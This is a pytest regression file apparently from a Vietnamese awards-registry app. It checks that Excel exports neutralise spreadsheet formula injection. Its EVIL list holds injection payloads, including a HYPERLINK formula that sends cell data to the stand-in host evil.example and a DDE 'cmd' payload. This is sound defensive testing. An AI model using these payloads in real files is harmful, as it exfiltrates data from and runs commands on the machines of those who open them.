"""M5: names starting with = + - @ tab or CR were written to Excel exports as live formulas."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest

from thidua.core.spreadsheet import DANGEROUS_START, safe
from thidua.documents import exports
from thidua.registry.models import Award

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
        "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_inert(data: bytes) -> None:
    for cell in _cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS_START), (cell.coordinate, cell.value)


def test_safe_keeps_the_text_and_numbers() -> None:
    assert safe("=1+1") == "'=1+1" and safe("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe(-5) == -5 and safe(dt.date(2024, 1, 1)) == dt.date(2024, 1, 1)


@pytest.mark.django_db
def test_every_export_writes_evil_names_as_text(flow: Any) -> None:
    people = [flow.make_person(name, unit=flow.unit) for name in EVIL]
    for p in people:
        Award.objects.create(person=p, code="LDTT", year=2023, level="grassroots", decision_number="=1+1",
                             decision_date=dt.date(2023, 12, 20), issuer="@UBND", source="import", unit=flow.unit,
                             subject_name=p.full_name, subject_title="-Trưởng phòng")
    buf = io.BytesIO()
    assert exports.awards_xlsx(exports.awards_query({}, user=flow.specialist), buf) == len(EVIL)
    _assert_inert(buf.getvalue())
    names = {c.value for c in _cells(buf.getvalue())}
    assert "'" + EVIL[0] in names  # the text itself is kept, marked as text

    dossier = flow.dossier(*["BK_TINH"] * 2, people=people[:2], docs=False)
    buf = io.BytesIO()
    exports.nominees_xlsx(dossier, buf)
    _assert_inert(buf.getvalue())

    from thidua.registry import eligibility

    ids = [p.pk for p in people]
    result = eligibility.PopulationResult(person_ids=ids, eligible={"LAO_DONG_TIEN_TIEN": ids}, year=2024,
                                          as_of=dt.date(2024, 12, 31))
    buf = io.BytesIO()
    eligibility.write_xlsx(result, buf, unit=flow.unit)
    _assert_inert(buf.getvalue())


def test_workbook_saved_through_the_helper_has_no_formula() -> None:
    from thidua.core.spreadsheet import save_workbook

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for i, v in enumerate(EVIL, start=1):
        ws.cell(row=i, column=1, value=v)
    buf = io.BytesIO()
    save_workbook(wb, buf)
    _assert_inert(buf.getvalue())
